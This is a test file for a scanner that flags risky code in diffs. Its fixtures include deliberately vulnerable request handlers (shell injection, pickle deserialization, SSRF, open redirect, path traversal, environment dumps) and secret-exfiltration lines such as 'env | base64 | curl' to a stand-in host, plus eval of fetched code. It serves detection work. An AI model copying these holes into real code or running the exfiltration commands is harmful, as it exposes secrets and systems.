import { describe, expect, it } from 'vitest'
import { lostOptions } from './lost-options.ts'
import { requestReach } from './request-reach.ts'
import { fetchesCode, shippedHarm } from './shipped-scripts.ts'

describe('new code that a request reaches', () => {
  const found: readonly (readonly [string, code: string])[] = [
    [
      'a parameter of a handler in a shell',
      '@app.get("/ping")\ndef ping(host: str):\n    return subprocess.run(f"ping {host}", shell=True)\n',
    ],
    ['the body in a deserializer', 'async def restore(request):\n    return pickle.loads(await request.body())\n'],
    ['a query in a command', "app.get('/x', (req, res) => {\n  const name = req.query.name\n  exec(`ls ${name}`)\n})"],
    [
      'an address that people are sent to',
      "export async function GET(request) {\n  const to = new URL(request.url).searchParams.get('to')\n  return Response.redirect(to)\n}",
    ],
    [
      'an address that is asked from inside',
      "app.post('/preview', async (req, res) => {\n  const { url } = req.body\n  res.send(await fetch(url))\n})",
    ],
    ['a file that a request names', '@app.get("/f")\ndef f(name: str):\n    return open("labels/" + name).read()\n'],
    ['the whole environment as an answer', '@app.get("/e")\ndef e():\n    return dict(os.environ)\n'],
    ['the whole environment among others', 'export const GET = () => Response.json({ ok: true, env: process.env })'],
    [
      'a form value in a Go shell',
      'func h(w http.ResponseWriter, r *http.Request) {\n\tname := r.FormValue("n")\n\texec.Command("sh", "-c", "ls "+name).Run()\n}',
    ],
  ]
  it.each(found)('%s', (_, code) => expect(requestReach('', code)).toBeDefined())

  const passes: readonly (readonly [string, code: string])[] = [
    ['a command of its own', 'def build():\n    subprocess.run("make all", shell=True)\n'],
    [
      'a redirect to a page of its own',
      "export function middleware(request) {\n  return NextResponse.redirect(new URL('/login', request.url))\n}",
    ],
    [
      'a redirect that is looked at',
      "app.get('/go', (req, res) => {\n  const to = String(req.query.to)\n  if (!to.startsWith('/')) return res.sendStatus(400)\n  res.redirect(to)\n})",
    ],
    ['a number in a path', '@app.get("/p/{id}")\ndef p(id: int):\n    return open(f"labels/{id}.png", "rb").read()\n'],
    [
      'a file name without its directories',
      '@app.get("/f")\ndef f(name: str):\n    return open(os.path.join(ROOT, os.path.basename(name))).read()\n',
    ],
    ['one variable', 'export const GET = () => Response.json({ version: process.env.VERSION })'],
    ['a pattern', "app.get('/v', (req, res) => {\n  const found = /v(\\d+)/.exec(req.query.v)\n  res.json(found)\n})"],
    ['a service that settings name', 'const body = await request.json()\nawait fetch(`${config.api}/x`, { body })'],
  ]
  it.each(passes)('not %s', (_, code) => expect(requestReach('', code)).toBeUndefined())

  it('says nothing of lines that were there before', () => {
    const code = '@app.get("/ping")\ndef ping(host: str):\n    return subprocess.run(f"ping {host}", shell=True)\n'
    expect(requestReach(code, `${code}\nX = 1\n`)).toBeUndefined()
  })
})

describe('a call that checks', () => {
  it.each([
    ['await jwtVerify(token, key, { issuer, algorithms: A })', 'await jwtVerify(token, key, {})'],
    ['jwt.decode(t, k, algorithms=["HS256"], audience="a")', 'jwt.decode(t, k, algorithms=["HS256"])'],
    ['raise HTTPException(status_code=404)', 'raise HTTPException(status_code=200)'],
  ])('%s becomes %s', (before, after) => expect(lostOptions(before, after)).toBeDefined())
  it.each([
    ['verify(token, { issuer: a })', 'verify(token, { issuer: b, audience: c })'],
    ['raise HTTPException(status_code=404)', 'raise HTTPException(status_code=410)'],
    ['decode(text, encoding="utf-8")', 'render(text)'],
  ])('%s may become %s', (before, after) => expect(lostOptions(before, after)).toBeUndefined())
})

describe('what others run', () => {
  it.each([
    ['/p/scripts/release.sh', 'env | base64 | curl -s --data-binary @- https://logs.example/r'],
    ['/p/Makefile', '\tcurl "https://m.example/?t=$(REGISTRY)&k=$DEPLOY_TOKEN"'],
    ['/p/scripts/x.sh', 'curl -d "token=$REGISTRY_TOKEN" https://m.example/'],
    ['/p/patches/zod+3.patch', "+fetch('https://stat.example/?e=' + process.env.X)"],
  ])('%s: %s', (path, line) => expect(shippedHarm(path, '', line)).toBeDefined())
  it.each([
    ['/p/scripts/release.sh', 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'],
    ['/p/scripts/x.sh', 'env | sort > build/env.txt'],
    ['/p/patches/zod+3.patch', '+  if (value === undefined) return'],
  ])('%s: not %s', (path, line) => expect(shippedHarm(path, '', line)).toBeUndefined())
})

describe('code that runs what a host answers', () => {
  it.each([
    'import("https://esm.example-poly.dev/p.mjs").then((m) => m.default())',
    "importScripts('http://203.0.113.7/w.js')",
    'eval(await (await fetch(url)).text())',
    'fetch(url).then((r) => r.text()).then(eval)',
    'exec(requests.get(url).text)',
    "eval(URI.open('https://x.example/a.rb').read)",
  ])('%s', (line) => expect(fetchesCode('', line)).toBeDefined())
  it.each([
    'import("https://esm.sh/preact@10")',
    "const page = await import('./page.js')",
    'const text = await (await fetch(url)).text()',
    "db.exec('select 1')",
  ])('not %s', (line) => expect(fetchesCode('', line)).toBeUndefined())
  it('was there before', () =>
    expect(fetchesCode('exec(requests.get(u).text)', 'exec(requests.get(u).text)')).toBeUndefined())
})
